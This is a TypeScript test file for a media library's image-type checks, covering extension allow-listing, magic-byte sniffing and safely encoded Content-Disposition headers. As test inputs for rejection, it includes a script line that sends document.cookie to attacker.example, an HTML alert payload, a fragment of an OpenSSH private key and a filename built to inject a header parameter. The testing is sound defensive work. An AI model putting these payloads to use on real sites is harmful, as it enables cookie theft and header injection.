import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import {
  inlineDisposition,
  isRasterImageType,
  mayServeAsImage,
  sniffImageType,
} from '../../../src-main/core/library/media-types';

const picture = () => sharp({ create: { width: 8, height: 8, channels: 3, background: '#c33' } });
const bytes = (text: string) => new TextEncoder().encode(text);
/** An ISO-BMFF `ftyp` box: size, "ftyp", major brand, minor version, compatible brands. */
const ftyp = (major: string, ...compatible: string[]) => {
  const box = Buffer.alloc(16 + 4 * compatible.length);
  box.writeUInt32BE(box.length, 0);
  box.write(`ftyp${major}`, 4, 'latin1');
  compatible.forEach((brand, i) => box.write(brand, 16 + 4 * i, 'latin1'));
  return box;
};

describe('which keys the image kind fetches at all', () => {
  it.each(['photo.jpg', 'Photo.JPEG', 'scan.tiff', '旅行/富士山.heic', 'a.b.webp', 'x.avif'])(
    'fetches %s',
    (key) => expect(mayServeAsImage(`id/${key}`)).toBe(true),
  );

  it.each([
    'id_rsa',
    '.ssh/id_rsa',
    'evil.html',
    'app.js',
    'logo.svg',
    'LOGO.SVG',
    '.jpg',
    'a.jpg/',
  ])('refuses %s before any request', (key) => expect(mayServeAsImage(`id/${key}`)).toBe(false));
});

describe('the type main serves an original as, from its own first bytes', () => {
  it.each([
    ['image/jpeg', () => picture().jpeg().toBuffer()],
    ['image/png', () => picture().png().toBuffer()],
    ['image/gif', () => picture().gif().toBuffer()],
    ['image/webp', () => picture().webp().toBuffer()],
    ['image/avif', () => picture().avif().toBuffer()],
    ['image/tiff', () => picture().tiff().toBuffer()],
  ])('recognises %s as sharp writes it', async (type, make) => {
    expect(sniffImageType(await make())).toBe(type);
  });

  it('recognises big-endian TIFF, BMP and the HEIF family', () => {
    expect(sniffImageType(Uint8Array.from([0x4d, 0x4d, 0x00, 0x2a, 0, 0, 0, 8]))).toBe(
      'image/tiff',
    );
    const bmp = Buffer.alloc(54);
    bmp.write('BM', 0, 'latin1');
    bmp.writeUInt32LE(40, 14);
    expect(sniffImageType(bmp)).toBe('image/bmp');
    expect(sniffImageType(ftyp('heic', 'mif1', 'heic'))).toBe('image/heic');
    expect(sniffImageType(ftyp('mif1', 'mif1', 'heic'))).toBe('image/heic');
    expect(sniffImageType(ftyp('mif1', 'mif1', 'miaf', 'avif'))).toBe('image/avif');
    expect(sniffImageType(ftyp('mif1', 'mif1'))).toBe('image/heif');
  });

  it.each([
    ['an HTML page', bytes('<!doctype html><script>alert(1)</script>')],
    [
      'an SVG with script',
      bytes('<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'),
    ],
    ['a private key', bytes('-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA')],
    ['JavaScript', bytes('fetch("https://attacker.example/?" + document.cookie)')],
    ['text that starts like a BMP', bytes('BMW service notes, spring 2024')],
    ['an MP4 video', ftyp('isom', 'isom', 'mp42')],
    ['a PDF', bytes('%PDF-1.7\n%âãÏÓ')],
    ['an empty object', new Uint8Array()],
    ['a cut-off PNG signature', Uint8Array.from([0x89, 0x50, 0x4e])],
  ])('recognises nothing in %s', (_what, content) => {
    expect(sniffImageType(content)).toBeUndefined();
  });
});

describe('the headers of a media response', () => {
  it('accepts only the raster types as a success Content-Type', () => {
    expect(isRasterImageType('image/webp')).toBe(true);
    for (const type of ['image/svg+xml', 'text/html', 'image/jpeg; charset=utf-8', '', null]) {
      expect(isRasterImageType(type)).toBe(false);
    }
  });

  it('names the file inline, percent-encoded so no key can add a header parameter', () => {
    expect(inlineDisposition()).toBe('inline');
    expect(inlineDisposition('photo.jpg')).toBe("inline; filename*=UTF-8''photo.jpg");
    expect(inlineDisposition('富士山 1.jpg')).toBe(
      "inline; filename*=UTF-8''%E5%AF%8C%E5%A3%AB%E5%B1%B1%201.jpg",
    );
    const crafted = inlineDisposition(`a"; filename=evil.html; x='(*).jpg`);
    expect(crafted).toBe(
      "inline; filename*=UTF-8''a%22%3B%20filename%3Devil.html%3B%20x%3D%27%28%2A%29.jpg",
    );
    expect(crafted).toMatch(/^[\x21-\x7e ]+$/);
  });
});
